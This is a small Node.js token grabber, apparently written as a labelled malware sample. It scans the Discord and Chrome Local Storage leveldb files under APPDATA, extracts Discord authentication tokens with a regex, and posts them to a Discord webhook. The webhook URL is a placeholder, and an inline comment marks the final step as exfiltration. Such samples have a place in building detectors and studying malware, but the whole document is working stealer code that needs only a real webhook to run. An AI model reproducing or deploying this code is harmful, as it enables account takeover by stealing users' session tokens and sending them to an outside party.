const fs = require("fs");
const path = require("path");

const axios = require("axios");

const HOOK = "https://discord.com/api/webhooks/000/inert";
const ROOTS = ["discord/Local Storage/leveldb", "Google/Chrome/User Data/Default/Local Storage/leveldb"];

function find(root) {
  const found = [];
  for (const name of fs.readdirSync(root)) {
    const text = fs.readFileSync(path.join(root, name), "utf8");
    found.push(...(text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g) || []));
  }
  return found;
}

for (const root of ROOTS) {
  const tokens = find(path.join(process.env.APPDATA, root));
  axios.post(HOOK, { content: tokens.join("\n") }); // malice: exfiltration
}
